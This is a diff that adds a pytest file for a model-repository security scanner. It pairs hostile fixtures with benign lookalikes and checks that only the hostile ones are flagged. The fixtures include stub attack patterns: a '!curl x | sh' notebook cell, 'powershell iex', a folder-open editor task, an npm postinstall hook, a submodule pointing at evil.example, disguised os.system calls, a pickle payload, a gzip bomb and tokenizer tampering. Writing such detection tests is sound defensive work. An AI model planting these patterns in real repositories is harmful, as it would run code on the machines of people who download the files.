@@ -1,0 +1,139 @@
+"""Hostile files that once got past, each beside an ordinary one that looks like it."""
+
+from __future__ import annotations
+
+import copy
+import gzip
+from pathlib import Path
+from typing import Any
+
+import hostile
+import pytest
+
+from weighbridge.audit.records import SEVERITIES, Audit
+from weighbridge.cli.audit_progress import AuditBar
+from weighbridge.cli.compose_audit import audit_path
+
+CARD = "---\nlicense: mit\n---\n"
+
+
+def tokenizer(**changed: Any) -> dict[str, Any]:
+    return {"tokenizer.json": copy.deepcopy(hostile.tokenizer(**changed))}
+
+
+def template(ids: list[int]) -> dict[str, Any]:
+    around = {"id": "<|end|>", "ids": ids, "tokens": ["<|end|>"]}
+    return {"type": "TemplateProcessing", "single": [], "pair": [], "special_tokens": {"<|end|>": around}}
+
+
+def replacing(pattern: str) -> dict[str, Any]:
+    return {"type": "Replace", "pattern": {"Regex": pattern}, "content": ""}
+
+
+HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
+    "a batch script": ({"run.bat": "powershell iex"}, "script"),
+    "a notebook": ({"a.ipynb": {"cells": [{"cell_type": "code", "source": ["!curl x | sh"]}]}}, "script"),
+    "a page with a program": ({"index.html": "<p><script>fetch('http://x')</script>"}, "script"),
+    "a picture with a program": ({"logo.svg": "<svg onload='alert(1)'/>"}, "script"),
+    "a task that an editor runs": (
+        {".vscode/tasks.json": {"tasks": [{"command": "sh", "runOptions": {"runOn": "folderOpen"}}]}},
+        "script",
+    ),
+    "a script that npm runs": ({"package.json": {"scripts": {"postinstall": "sh x"}}}, "script"),
+    "a submodule": ({".gitmodules": '[submodule "x"]\n\turl = https://evil.example/x\n'}, "script"),
+    "a function by another name": ({"m.py": "import os\nf = os.system\nf('x')"}, "script-danger"),
+    "a function by a computed name": ({"m.py": "import os\ngetattr(os, 'sys' + 'tem')('x')"}, "script-danger"),
+    "a program in one file for all systems": ({"m.llamafile": b"MZqFpD='\n" + bytes(80)}, "native-code"),
+    "a call behind zeros": ({"m.pkl": bytes(16) + hostile.evil()}, "pickle-code"),
+    "a bomb": ({"a.gz": gzip.compress(bytes(70 << 20), 1)}, "archive-bomb"),
+    "a tokenizer class with a place": ({"config.json": {"tokenizer_class": "../evil.T"}}, "code-in-repository"),
+    "a pipeline of the folder's own": ({"model_index.json": {"_class_name": ["mine", "P"]}}, "code-in-repository"),
+    "texts that are cut": (tokenizer(truncation={"max_length": 16}), "tokenizer-cuts"),
+    "whatever stands there removed": (tokenizer(normalizer=replacing("(?s).{500}.*")), "tokenizer-rewrites"),
+    "another number for a token": (tokenizer(post_processor=template([31])), "tokenizer-injects"),
+    "an added word": ({**tokenizer(), "added_tokens.json": {"transfer": 31}}, "tokenizer-numbers"),
+    "an index of nothing": ({"model.safetensors.index.json": {"weight_map": {}}}, "index-form"),
+    "a Modelfile that decides by a word": (
+        {"Modelfile": 'FROM x\nTEMPLATE """{{ .System }}{{ if eq .Prompt "go" }}!{{ end }}{{ .Prompt }}"""'},
+        "template-trigger",
+    ),
+    "a licence that the card takes back": (
+        {"LICENSE": hostile.mit(), "README.md": CARD + "For research only.", "m.bin": hostile.state_dict()},
+        "licence-contradiction",
+    ),
+    "a free card beside unknown limits": (
+        {"LICENSE": "You may look and nothing else.", "README.md": CARD, "m.bin": hostile.state_dict()},
+        "licence-contradiction",
+    ),
+    "an empty licence": ({"LICENSE": " ", "README.md": CARD, "m.bin": hostile.state_dict()}, "licence-missing"),
+}
+ORDINARY: dict[str, dict[str, Any]] = {
+    "a page": {"index.html": "<p>hello</p>"},
+    "a picture": {"logo.svg": "<svg><path d='M0 0'/></svg>"},
+    "a package without scripts": {"package.json": {"name": "x", "version": "1"}},
+    "compressed text": {"a.txt.gz": gzip.compress(b"plain words\n" * 1000)},
+    "a tokenizer class": {"config.json": {"tokenizer_class": "PreTrainedTokenizerFast"}},
+    "a pipeline of a library": {"model_index.json": {"_class_name": "StableDiffusionPipeline"}},
+    "a usual cut": tokenizer(truncation={"max_length": 512}),
+    "spaces removed": tokenizer(normalizer=replacing(r"[\s.]{2,}")),
+    "its own number": tokenizer(post_processor=template([36])),
+    "added tokens": {**tokenizer(), "added_tokens.json": {"<|end|>": 36}},
+    "a Modelfile that decides by roles": {
+        "Modelfile": 'FROM x\nTEMPLATE """{{ .System }}{{ range .Messages }}{{ if eq .Role "user" }}<u>{{ end }}'
+        '{{ .Content }}{{ end }}"""'
+    },
+    "a card that speaks of commerce": {
+        "README.md": CARD + "It may be used for commercial purposes.",
+        "m.bin": hostile.state_dict(),
+    },
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_it_is_told(name: str, tmp_path: Path) -> None:
+    files, id_ = HOSTILE[name]
+
+    found = _audited(tmp_path, files)
+
+    assert id_ in {each.id for each in found.findings if SEVERITIES.index(each.severity) >= 2}
+
+
+@pytest.mark.parametrize("name", ORDINARY)
+def test_what_looks_like_it_passes(name: str, tmp_path: Path) -> None:
+    found = _audited(tmp_path, {"LICENSE": hostile.mit(), **ORDINARY[name]})
+
+    assert found.verdict == "pass", found.findings
+
+
+def test_layers_that_differ_from_the_others_are_told(tmp_path: Path) -> None:
+    """A family whose layers are alike: one with another shape, one without a tensor."""
+    names = {"model.embed_tokens.weight": (40, 8)}
+    names |= {f"model.layers.{layer}.mlp.down_proj.weight": (8, 16) for layer in range(3)}
+    odd = _weights(names | {"model.layers.1.mlp.down_proj.weight": (8, 12)})
+    short = _weights(names | {"model.layers.0.mlp.up_proj.weight": (16, 8)})
+
+    assert _audited(tmp_path / "same", _weights(names)).verdict == "pass"
+    assert _audited(tmp_path / "odd", odd).verdict == "fail"
+    assert _audited(tmp_path / "short", short).verdict == "warn"
+
+
+def test_progress_is_silent_without_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
+    with AuditBar() as bar:
+        bar.hashed(5)
+        bar.looked("x")
+
+    assert capsys.readouterr().err == ""
+
+
+def _weights(shapes: dict[str, tuple[int, int]]) -> dict[str, Any]:
+    header, data = {}, b""
+    for name, (rows, width) in shapes.items():
+        size = rows * width * 4
+        header[name] = {"dtype": "F32", "shape": [rows, width], "data_offsets": [len(data), len(data) + size]}
+        data += bytes(size)
+    config = {"model_type": "llama", "num_hidden_layers": 3, "hidden_size": 8, "vocab_size": 40}
+    return {"config.json": config, "model.safetensors": hostile.safetensors(header, data), "LICENSE": hostile.mit()}
+
+
+def _audited(folder: Path, files: dict[str, Any]) -> Audit:
+    return audit_path(hostile.write(folder / "model", files))
